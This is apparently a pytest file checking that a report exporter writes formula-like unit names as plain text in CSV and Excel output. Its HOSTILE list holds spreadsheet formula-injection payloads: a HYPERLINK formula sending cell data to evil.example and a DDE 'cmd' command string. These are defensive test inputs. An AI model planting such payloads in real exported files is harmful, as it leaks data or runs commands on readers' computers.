"""Names that look like formulas stay text in the reports officials open in Excel."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl

from monitor.periods import parse_period
from monitor.reports.monthly import MonthlyReport, UnitFigures
from monitor.reports.ontime import Tally
from monitor.reports.render import to_csv, to_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A2,"点我")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = ["区工信局", "顺河街道（一）", "A-1 组"]


def report() -> MonthlyReport:
    names = HOSTILE + PLAIN
    units = [UnitFigures(f"u{i}", name, Tally(on_time=1, missed=1)) for i, name in enumerate(names)]
    trend = {f"u{i}": {"2024-10": 0.5, "2024-11": None} for i in range(len(names))}
    return MonthlyReport(parse_period("2024-11"), units, trend, criticism=HOSTILE[:2], stars=PLAIN[:1])


def test_csv_cells_that_would_be_formulas_get_a_leading_quote() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(report()))))
    table = rows[: rows.index([])]  # the notes under the table follow a blank row
    assert [r[0] for r in table[1:]] == ["'" + name for name in HOSTILE] + PLAIN
    assert all(
        r[1:] == ["2", "1", "0", "1", "0", "0", "0", "0", "0", "0", "0", "0", "0.500"] for r in table[1:]
    )


def test_xlsx_cells_that_would_be_formulas_are_written_as_text(tmp_path: Path) -> None:
    out = tmp_path / "report.xlsx"
    to_xlsx(report(), out)
    with zipfile.ZipFile(out) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    book = openpyxl.load_workbook(out)
    names = [n.replace("\r", "\n") for n in HOSTILE + PLAIN]  # XML reads a raw CR back as LF
    summary = [row[0] for row in book["汇总"].iter_rows(min_row=2, max_row=len(names) + 1, max_col=1)]
    assert [c.value for c in summary] == names
    assert {c.data_type for c in summary} == {"s"}
    trend = [row[0] for row in book["趋势"].iter_rows(min_row=2, max_col=1)]
    assert [c.value for c in trend] == names and {c.data_type for c in trend} == {"s"}
    notice = {(r[0].value, r[1].value, r[1].data_type) for r in book["通报"].iter_rows(min_row=2)}
    assert {
        ("通报批评", HOSTILE[0], "s"),
        ("通报批评", HOSTILE[1], "s"),
        ("作风之星候选", PLAIN[0], "s"),
    } <= notice
    assert book["汇总"]["B2"].value == 2  # numbers stay numbers
